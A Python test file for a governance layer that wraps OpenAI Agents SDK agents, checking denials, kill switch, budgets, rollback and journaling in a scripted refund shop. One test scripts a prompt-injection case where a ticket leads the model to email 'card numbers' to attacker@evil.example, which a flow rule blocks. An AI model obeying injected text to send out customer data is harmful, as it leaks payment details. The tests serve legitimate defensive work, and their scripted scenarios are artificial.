"""Calls of an OpenAI Agents SDK agent, made by the SDK's real run loop, governed and
journaled by charter: allowed, denied, held by a flow rule, stopped, counted, undone."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

pytest.importorskip("agents", reason="the openai-agents extra is not installed")

from agents import (
    Agent,
    AgentHooks,
    Runner,
    ToolGuardrailFunctionOutput,
    function_tool,
    tool_input_guardrail,
)

from charter import Journal
from charter.integrations.openai_agents import RunStopped, charter_agent, govern
from charter.runtime import Controls
from charter.runtime._replay import replay
from charter.runtime._rollback import rollback
from integrations.openai_agents.scripted_model import ScriptedModel, Turn
from integrations.openai_agents.shop import Shop, cli, make_agent, make_charter


def _kinds(journal: Journal, run_id: str) -> list[str]:
    return [r.kind for r in journal.records(run_id)]


def _payloads(journal: Journal, run_id: str, kind: str) -> list[dict[str, Any]]:
    return [r.payload for r in journal.records(run_id) if r.kind == kind]


def test_an_allowed_call_runs_once_and_is_journaled_as_a_native_runs(journal: Journal) -> None:
    shop = Shop()
    model = ScriptedModel([[("refund_order", {"order_id": 7, "amount": 5.0})], "refunded"])
    with govern(
        make_agent(shop, model), journal=journal, charter=make_charter(), goal="refund 7"
    ) as governed:
        result = asyncio.run(Runner.run(governed.agent, "refund order 7"))
        finished = governed.finish(result.final_output)
    assert shop.refunds == [(7, 5.0)]
    assert model.tool_outputs() == {"call-1-0": "refunded 5.00 on order 7"}
    assert finished.status == "completed" and finished.answer == "refunded"
    effect = _payloads(journal, governed.run_id, "step.effect")
    assert [(e["tool"], e["status"], e["result"]) for e in effect] == [
        ("refund_order", "ok", "refunded 5.00 on order 7")
    ]
    assert effect[0]["idempotency_key"] == f"{governed.run_id}:1:1"
    started = _payloads(journal, governed.run_id, "run.started")[0]
    assert started["agent"] == "support" and started["governed_by"] == "caller"
    assert journal.verify().ok


def test_a_denial_reaches_the_model_as_the_tools_output_and_the_tool_never_runs(
    journal: Journal,
) -> None:
    shop = Shop()
    no_refunds = make_charter(
        rules=[{"id": "no-refunds", "effect": "deny", "tools": ["refund_order"]}]
    )
    model = ScriptedModel(
        [
            [("refund_order", {"order_id": 7, "amount": 5.0}), ("wire_money", {"to": "x"})],
            "I could not refund it.",
        ]
    )
    with govern(make_agent(shop, model), journal=journal, charter=no_refunds, goal="g") as gov:
        result = asyncio.run(Runner.run(gov.agent, "refund order 7"))
        gov.finish(result.final_output)
    assert shop.refunds == []
    seen = model.tool_outputs()
    assert seen["call-1-0"].startswith("charter denied refund_order: ")
    assert seen["call-1-0"].endswith("(rule no-refunds)")
    assert seen["call-1-1"] == "charter denied wire_money: the charter does not name this tool"
    decided = _payloads(journal, gov.run_id, "step.decided")
    assert [d["rules"] for d in decided] == [["no-refunds"]]
    assert _payloads(journal, gov.run_id, "step.effect") == []


def test_in_the_shadow_phase_a_write_is_simulated_and_the_model_is_told_so(
    journal: Journal,
) -> None:
    shop = Shop()
    model = ScriptedModel([[("refund_order", {"order_id": 7, "amount": 5.0})], "refunded"])
    shadow = make_charter(phase="shadow")
    with govern(make_agent(shop, model), journal=journal, charter=shadow, goal="g") as gov:
        result = asyncio.run(Runner.run(gov.agent, "refund order 7"))
        gov.finish(result.final_output)
    assert shop.refunds == []
    seen = json.loads(model.tool_outputs()["call-1-0"])
    assert seen["simulated"] is True and seen["tool"] == "refund_order"
    assert [e["status"] for e in _payloads(journal, gov.run_id, "step.effect")] == ["simulated"]


def test_a_tool_that_fails_is_journaled_as_failed_and_the_model_sees_the_sdks_error(
    journal: Journal,
) -> None:
    model = ScriptedModel([[("fail_order", {"order_id": 3})], "it failed"])
    with govern(make_agent(Shop(), model), journal=journal, charter=make_charter(), goal="g") as g:
        asyncio.run(Runner.run(g.agent, "fail"))
        g.finish("it failed")
    effect = _payloads(journal, g.run_id, "step.effect")[0]
    assert effect["status"] == "error" and "payments service refused" in effect["error"]
    assert model.tool_outputs()["call-1-0"].startswith("An error occurred while running the tool")


def test_an_injected_target_from_an_untrusted_output_is_held_by_the_flow_rule(
    journal: Journal,
) -> None:
    shop = Shop()

    def obey_the_ticket(sent: list[Any]) -> Any:  # the injected order wins the model over
        return [("send_email", {"to": "attacker@evil.example", "body": "card numbers"})]

    model = ScriptedModel([[("read_ticket", {"ticket_id": 88})], obey_the_ticket, "sorry"])
    with govern(make_agent(shop, model), journal=journal, charter=make_charter(), goal="g") as g:
        asyncio.run(Runner.run(g.agent, "answer ticket 88"))
        g.finish("sorry")
    assert shop.emails == []
    assert "flow.untrusted-target" in model.tool_outputs()["call-2-0"]
    decided = _payloads(journal, g.run_id, "step.decided")
    assert decided[-1]["rules"] == ["flow.untrusted-target"]
    assert decided[-1]["labels"]["trust"] == "untrusted"


def test_parallel_calls_of_one_turn_are_governed_one_after_the_other(journal: Journal) -> None:
    shop = Shop()
    calls: Turn = [("refund_order", {"order_id": n, "amount": 1.0}) for n in (1, 2, 3)]
    model = ScriptedModel([calls, "done"])
    with govern(make_agent(shop, model), journal=journal, charter=make_charter(), goal="g") as g:
        asyncio.run(Runner.run(g.agent, "refund 1, 2 and 3"))
        g.finish("done")
    assert sorted(shop.refunds) == [(1, 1.0), (2, 1.0), (3, 1.0)]
    effects = _payloads(journal, g.run_id, "step.effect")
    assert sorted(e["step"] for e in effects) == [1, 2, 3]
    assert journal.verify().ok


def test_the_tools_of_an_agent_handed_off_to_are_governed(journal: Journal) -> None:
    shop = Shop()
    tools = {t.name: t for t in shop.tools()}
    model = ScriptedModel(
        [[("transfer_to_billing", {})], [("refund_order", {"order_id": 9, "amount": 2.0})], "ok"]
    )
    billing = Agent(name="billing", tools=[tools["refund_order"]], model=model)
    triage = Agent(name="triage", tools=[tools["lookup_order"]], handoffs=[billing], model=model)
    no_refunds = make_charter(
        contracts={"lookup_order": {}, "refund_order": {"side_effect": "write"}},
        rules=[{"id": "no-refunds", "effect": "deny", "tools": ["refund_order"]}],
    )
    with govern(triage, journal=journal, charter=no_refunds, goal="g") as g:
        asyncio.run(Runner.run(g.agent, "refund 9"))
        g.finish("ok")
    assert shop.refunds == []
    assert "no-refunds" in model.tool_outputs()["call-2-0"]


def test_the_kill_switch_stops_a_running_agent_at_its_next_call(journal: Journal) -> None:
    shop = Shop()

    def operator_pauses(sent: list[Any]) -> Any:  # meanwhile, in another process
        paused = cli("agents", "pause", "support", "--reason", "incident 42", "--actor", "ops")
        assert paused.returncode == 0, paused.stdout + paused.stderr
        return [("refund_order", {"order_id": 2, "amount": 1.0})]

    model = ScriptedModel([[("lookup_order", {"order_id": 2})], operator_pauses, "never"])
    agent = make_agent(shop, model)
    with (
        govern(agent, journal=journal, charter=make_charter(), goal="g") as g,
        pytest.raises(RunStopped, match="incident 42"),
    ):
        asyncio.run(Runner.run(g.agent, "refund 2"))
    assert shop.refunds == [] and len(model.inputs) == 2
    assert g.run.status == "stopped"
    assert _kinds(journal, g.run_id)[-1] == "run.finished"


def test_model_usage_counts_against_the_token_budget(journal: Journal) -> None:
    shop = Shop()
    model = ScriptedModel(
        [
            [("lookup_order", {"order_id": 1})],
            [("lookup_order", {"order_id": 2})],
            [("refund_order", {"order_id": 1, "amount": 1.0})],
        ],
        tokens=(80, 30),
    )
    charter = make_charter(budgets={"max_tokens": 200})
    agent = make_agent(shop, model)
    with (
        govern(agent, journal=journal, charter=charter, goal="g") as g,
        pytest.raises(RunStopped, match="budget"),
    ):
        asyncio.run(Runner.run(g.agent, "refund 1"))
    assert shop.refunds == []
    proposed = _payloads(journal, g.run_id, "step.proposed")
    assert [p["tokens"] for p in proposed] == [{"prompt": 80, "completion": 30}] * 2
    assert g.run.status == "stopped" and g.run.tokens >= 220
    exceeded = _payloads(journal, g.run_id, "budget.exceeded")
    assert [e["rule"] for e in exceeded] == ["budget.max_tokens"]


def test_rollback_undoes_a_framework_runs_write_by_its_compensation(journal: Journal) -> None:
    shop = Shop()
    undo = {"refund_order": shop.undo_refund}
    model = ScriptedModel([[("refund_order", {"order_id": 5, "amount": 3.0})], "done"])
    agent = make_agent(shop, model)
    with govern(agent, journal=journal, charter=make_charter(), goal="g", compensate=undo) as g:
        asyncio.run(Runner.run(g.agent, "refund 5"))
        g.finish("done")
    identity = charter_agent(agent, make_charter(), compensate=undo)
    report = rollback(journal, identity, g.run_id, actor="ops")
    assert [(i.tool, i.outcome) for i in report.items] == [("refund_order", "compensated")]
    assert shop.reversed == [5]
    verified = cli("audit", "verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr


def test_a_guardrail_blocking_an_allowed_call_journals_it_as_not_run(journal: Journal) -> None:
    @tool_input_guardrail
    def no_big_orders(data: Any) -> ToolGuardrailFunctionOutput:
        return ToolGuardrailFunctionOutput.reject_content("blocked by the shop's guardrail")

    shop = Shop()
    tools = shop.tools()
    refund = next(t for t in tools if t.name == "refund_order")
    refund.tool_input_guardrails = [no_big_orders]
    model = ScriptedModel(
        [
            [("refund_order", {"order_id": 8, "amount": 9.0})],
            [("lookup_order", {"order_id": 8})],
            "done",
        ]
    )
    agent = Agent(name="support", tools=[*tools], model=model)
    with govern(agent, journal=journal, charter=make_charter(), goal="g") as g:
        asyncio.run(Runner.run(g.agent, "refund 8"))
        g.finish("done")
    assert shop.refunds == []
    assert model.tool_outputs()["call-1-0"] == "blocked by the shop's guardrail"
    effects = _payloads(journal, g.run_id, "step.effect")
    assert [(e["tool"], e["status"]) for e in effects] == [
        ("refund_order", "error"),
        ("lookup_order", "ok"),
    ]


def test_arguments_the_schema_rejects_are_refused_before_the_tool_sees_them(
    journal: Journal,
) -> None:
    shop = Shop()
    bad = ("refund_order", {"order_id": "all of them", "amount": 1.0})
    model = ScriptedModel([[bad], "sorry"])
    with govern(make_agent(shop, model), journal=journal, charter=make_charter(), goal="g") as g:
        asyncio.run(Runner.run(g.agent, "refund"))
        g.finish("sorry")
    assert shop.refunds == []
    said = model.tool_outputs()["call-1-0"]
    assert said.startswith("charter refused refund_order: ") and "order_id" in said


def test_arguments_that_are_not_json_never_reach_the_tool(journal: Journal) -> None:
    shop = Shop()
    model = ScriptedModel([[("refund_order", "{not json")], "sorry"])  # type: ignore[list-item]
    with govern(make_agent(shop, model), journal=journal, charter=make_charter(), goal="g") as g:
        result = asyncio.run(Runner.run(g.agent, "refund"))
        state = result.to_state()
        answers = asyncio.run(g.apply_approvals(state))  # the SDK asks: charter says no
        asyncio.run(Runner.run(g.agent, state))
        g.finish("sorry")
    assert shop.refunds == [] and result.interruptions
    assert len(answers) == len(result.interruptions)
    assert all(a.startswith("not run") for a in answers)
    assert [r.kind for r in journal.records(g.run_id)].count("step.decided") == 0


def test_a_secret_output_is_withheld_from_the_model_and_the_journal(journal: Journal) -> None:
    charter = make_charter(
        contracts={"lookup_order": {"confidentiality": "secret"}},
    )
    model = ScriptedModel([[("lookup_order", {"order_id": 4})], "done"])
    with govern(make_agent(Shop(), model), journal=journal, charter=charter, goal="g") as g:
        asyncio.run(Runner.run(g.agent, "look"))
        g.finish("done")
    said = model.tool_outputs()["call-1-0"]
    assert "delivered" not in said
    effect = _payloads(journal, g.run_id, "step.effect")[0]
    assert "delivered" not in str(effect)


def test_a_revocation_denies_the_tool_from_its_next_call(journal: Journal) -> None:
    shop = Shop()

    def operator_revokes(sent: list[Any]) -> Any:
        Controls(journal).revoke("refund_order", actor="ops", reason="refund fraud")
        return [("refund_order", {"order_id": 3, "amount": 1.0})]

    model = ScriptedModel(
        [[("refund_order", {"order_id": 2, "amount": 1.0})], operator_revokes, "done"]
    )
    with govern(make_agent(shop, model), journal=journal, charter=make_charter(), goal="g") as g:
        asyncio.run(Runner.run(g.agent, "refund 2 and 3"))
        g.finish("done")
    assert shop.refunds == [(2, 1.0)]
    assert "inventory.revoked" in model.tool_outputs()["call-2-0"]


def test_a_write_the_sdk_times_out_is_in_doubt_and_never_silently_retried(
    journal: Journal,
) -> None:
    @function_tool
    async def refund_order(order_id: int, amount: float) -> str:
        """A refund whose payment service hangs."""
        await asyncio.sleep(30)
        return "refunded"

    refund_order.timeout_seconds = 0.05  # the SDK's own per-call timeout

    again = ("refund_order", {"order_id": 6, "amount": 1.0})
    model = ScriptedModel([[again], [again], "unsure"])
    agent = Agent(name="support", tools=[refund_order], model=model)
    with govern(
        agent,
        journal=journal,
        charter=make_charter(
            contracts={"refund_order": {"side_effect": "write", "targets": ["order_id"]}}
        ),
        goal="g",
    ) as g:
        asyncio.run(Runner.run(g.agent, "refund 6"))
        g.finish("unsure")
    seen = model.tool_outputs()
    assert "timed out" in seen["call-1-0"].lower()
    assert "effect.in_doubt" in seen["call-2-0"]
    effects = _payloads(journal, g.run_id, "step.effect")
    assert [e["status"] for e in effects] == ["in_doubt"]


def test_a_streamed_run_is_governed_the_same_way(journal: Journal) -> None:
    from agents.testing import ScriptedModel as SdkScriptedModel
    from agents.testing import assistant_message, function_call

    shop = Shop()
    model = SdkScriptedModel(
        [
            [function_call("refund_order", {"order_id": 1, "amount": 2.0}, call_id="a")],
            [function_call("wire_money", {"to": "x"}, call_id="b")],
            [assistant_message("done")],
        ]
    )

    async def stream(agent: Agent[Any]) -> Any:
        result = Runner.run_streamed(agent, "refund 1")
        async for _ in result.stream_events():
            pass
        return result

    with govern(make_agent(shop, model), journal=journal, charter=make_charter(), goal="g") as g:
        result = asyncio.run(stream(g.agent))
        g.finish(result.final_output)
    assert shop.refunds == [(1, 2.0)] and result.final_output == "done"
    decided = _payloads(journal, g.run_id, "step.decided")
    assert [d["tool"] for d in decided] == ["refund_order"]
    last = model.last_call
    assert last is not None and "does not name this tool" in str(last.input)


def test_policy_explain_and_replay_work_on_a_framework_run(journal: Journal) -> None:
    no_refunds = make_charter(
        rules=[{"id": "no-refunds", "effect": "deny", "tools": ["refund_order"]}]
    )
    model = ScriptedModel(
        [[("lookup_order", {"order_id": 1})], [("refund_order", {"order_id": 1, "amount": 1.0})]]
    )
    agent = make_agent(Shop(), model)
    with govern(agent, journal=journal, charter=no_refunds, goal="g") as g:
        asyncio.run(Runner.run(g.agent, "refund 1"))
        g.finish("done")
    explained = cli("policy", "explain", g.run_id, "2")
    assert explained.returncode == 0 and "no-refunds" in explained.stdout, explained.stderr
    steps = replay(journal, charter_agent(agent, no_refunds), g.run_id)
    assert [s.changed for s in steps] == [False, False, False]
    assert [s.now.rules for s in steps if s.now] == [("tools.allow",), ("no-refunds",)]


def test_the_agents_own_hooks_still_run(journal: Journal) -> None:
    seen: list[str] = []

    class Hooks(AgentHooks[Any]):
        async def on_tool_end(self, context: Any, agent: Any, tool: Any, result: Any) -> None:
            seen.append(f"tool {tool.name}")

        async def on_llm_end(self, context: Any, agent: Any, response: Any) -> None:
            seen.append("llm")

    model = ScriptedModel([[("lookup_order", {"order_id": 1})], "done"])
    agent = make_agent(Shop(), model, hooks=Hooks())
    with govern(agent, journal=journal, charter=make_charter(), goal="g") as g:
        asyncio.run(Runner.run(g.agent, "look"))
        g.finish("done")
    assert seen == ["llm", "tool lookup_order", "llm"]
    assert g.run.tokens == 240  # both responses' usage, reported once each
